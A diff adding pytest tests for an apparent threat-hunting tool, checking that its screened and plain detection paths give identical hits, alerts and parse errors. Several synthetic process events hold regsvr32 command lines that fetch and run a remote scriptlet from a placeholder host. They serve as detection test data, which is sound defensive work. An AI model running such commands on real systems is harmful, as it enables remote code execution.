@@ -1,0 +1,163 @@
+"""The screened hunt gives exactly the straightforward path's hits, alerts and errors."""
+
+from __future__ import annotations
+
+import json
+from datetime import UTC, datetime
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Any
+
+import orjson
+import pytest
+
+from eqlwatch.backends.event_files import read_events
+from eqlwatch.demo.write import write_demo_data
+from eqlwatch.enrich import load_ip_table
+from eqlwatch.errors import DataError
+from eqlwatch.pipeline.alerting import AlertBuilder
+from eqlwatch.pipeline.hunt import HuntResult, build_alerts, hunt_files
+from eqlwatch.rules import Rule, load_rules
+
+DETECTED_AT = datetime(2026, 1, 1, tzinfo=UTC)
+NDJSON_EXPORTS = "datasets/evtx-attack-samples/ndjson"
+
+
+@pytest.fixture(scope="module")
+def pack(repo_root: Path) -> list[Rule]:
+    return [r for r in load_rules([repo_root / "queries"]).rules if r.eqlwatch.enabled]
+
+
+def run(
+    rules: list[Rule], paths: list[Path], *, screen: bool, fast: bool = True
+) -> tuple[HuntResult, list[str]]:
+    errors: list[str] = []
+
+    def keep(error: DataError) -> None:
+        errors.append(str(error))
+
+    return hunt_files(rules, paths, on_error=keep, screen=screen, fast=fast), errors
+
+
+def hit_keys(result: HuntResult) -> list[tuple[str, list[list[tuple[str, str, bool]]]]]:
+    return [
+        (rule.rule_id, [[(e.index, e.id, e.missing) for e in hit.events] for hit in hits])
+        for rule, hits in result.hits
+    ]
+
+
+def alert_docs(result: HuntResult, repo_root: Path) -> list[Mapping[str, Any]]:
+    builder = AlertBuilder(
+        job_id="hunt", templates_dir=repo_root / "templates", ip_table=load_ip_table(None)
+    )
+    return [a.document for a in build_alerts(result, builder, detected_at=DETECTED_AT)]
+
+
+def assert_same(rules: list[Rule], paths: list[Path], repo_root: Path) -> HuntResult:
+    fast, fast_errors = run(rules, paths, screen=True)
+    plain, plain_errors = run(rules, paths, screen=False)
+    assert hit_keys(fast) == hit_keys(plain)
+    assert fast_errors == plain_errors
+    assert (fast.counts.events, fast.counts.malformed) == (
+        plain.counts.events,
+        plain.counts.malformed,
+    )
+    assert alert_docs(fast, repo_root) == alert_docs(plain, repo_root)
+    return fast
+
+
+@pytest.fixture(scope="module")
+def exports_as_ecs(shared_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Every shared EVTX export normalised to ECS, one NDJSON line per event."""
+    out = tmp_path_factory.mktemp("ecs") / "evtx-exports.ndjson"
+    events = read_events([shared_dir / NDJSON_EXPORTS], on_error=lambda _e: None)
+    out.write_bytes(b"".join(orjson.dumps(e.source) + b"\n" for e in events))
+    return out
+
+
+def test_exports_normalised_to_ecs_give_the_same_alerts(
+    exports_as_ecs: Path, pack: list[Rule], repo_root: Path
+) -> None:
+    result = assert_same(pack, [exports_as_ecs], repo_root)
+    assert sum(len(hits) for _, hits in result.hits) > 5  # the answer key's captures fire
+    assert result.counts.parsed < result.counts.events / 2  # most lines were never parsed
+
+
+def test_demo_dataset_gives_the_same_alerts(
+    tmp_path: Path, pack: list[Rule], repo_root: Path
+) -> None:
+    files = write_demo_data(tmp_path, end=datetime(2026, 1, 1, tzinfo=UTC), hours=1.0)
+    result = assert_same(pack, files, repo_root)
+    assert sum(len(hits) for _, hits in result.hits) > 5
+    assert result.counts.parsed < result.counts.events
+
+
+def test_raw_windows_exports_give_the_same_alerts(
+    shared_dir: Path, pack: list[Rule], repo_root: Path
+) -> None:
+    assert_same(pack, [shared_dir / NDJSON_EXPORTS / "Execution"], repo_root)
+
+
+def _process(name: str, command_line: str) -> dict[str, Any]:
+    return {
+        "@timestamp": "2026-01-01T00:00:01.000Z",
+        "event": {"category": ["process"], "type": ["start"]},
+        "process": {"name": name, "command_line": command_line, "entity_id": "p1"},
+    }
+
+
+def test_malformed_lines_are_reported_even_when_no_rule_needs_them(
+    tmp_path: Path, pack: list[Rule], repo_root: Path
+) -> None:
+    hit = _process("REGSVR32.exe", "regsvr32 /s /i:http://x/a.sct scrobj.dll")
+    lines = [
+        orjson.dumps(_process("notepad.exe", "notepad")),
+        b'{"event": {"category": ["process"]}, "truncated": ',
+        b"",
+        b"[1, 2]",
+        orjson.dumps(hit),
+        b'{"_id": "abc", "_source": ' + orjson.dumps(hit) + b"}",
+        b'{"a": 1,}',
+        b"42",
+    ]
+    path = tmp_path / "mixed.ndjson"
+    path.write_bytes(b"\n".join(lines) + b"\n")
+    result = assert_same(pack, [path], repo_root)
+    _, errors = run(pack, [path], screen=True)
+    assert [e.split(":")[0:2] for e in errors] == [[str(path), str(n)] for n in (2, 4, 7, 8)]
+    ids = {e.id for _, hits in result.hits for h in hits for e in h.events}
+    assert ids == {"5", "abc"}
+    assert result.counts.parsed == 2 + 5  # the two hits, the four bad lines and the blank one
+
+
+def test_escaped_and_non_ascii_lines_are_parsed(
+    tmp_path: Path, pack: list[Rule], repo_root: Path
+) -> None:
+    """The needles prove nothing on `\\u` escapes or on text `str.lower` maps to ASCII."""
+    escaped = json.dumps(_process("regsvr32.exe", "regsvr32 /i:x.sct"), ensure_ascii=True)
+    escaped = escaped.replace("regsvr32.exe", "\\u0072egsvr32.exe")
+    kelvin = _process("regsvr32.exe", "regsvr32 /i:http://x/\u212a.sct")  # Kelvin sign
+    path = tmp_path / "escapes.ndjson"
+    path.write_bytes(escaped.encode() + b"\n" + orjson.dumps(kelvin) + b"\n")
+    result = assert_same(pack, [path], repo_root)
+    assert result.counts.parsed == 2
+    assert any(hits for _, hits in result.hits)
+
+
+def test_python_matcher_agrees_with_hyperscan(exports_as_ecs: Path, pack: list[Rule]) -> None:
+    fast, _ = run(pack, [exports_as_ecs], screen=True, fast=True)
+    portable, _ = run(pack, [exports_as_ecs], screen=True, fast=False)
+    assert hit_keys(fast) == hit_keys(portable)
+    assert fast.counts == portable.counts
+
+
+def test_a_rule_without_needles_reads_every_line(tmp_path: Path, repo_root: Path) -> None:
+    rule_text = (repo_root / "queries/regsvr32_renamed.toml").read_text()
+    broad = rule_text.replace("not process.name", "process.pid > 0 or not process.name")
+    (tmp_path / "broad.toml").write_text(broad)
+    rules = list(load_rules([tmp_path / "broad.toml"]).rules)
+    path = tmp_path / "events.ndjson"
+    doc = _process("x.exe", "x") | {"process": {"pid": 4, "name": "x.exe"}}
+    path.write_bytes(orjson.dumps(doc) + b"\n")
+    result = assert_same(rules, [path], repo_root)
+    assert result.counts.parsed == 1
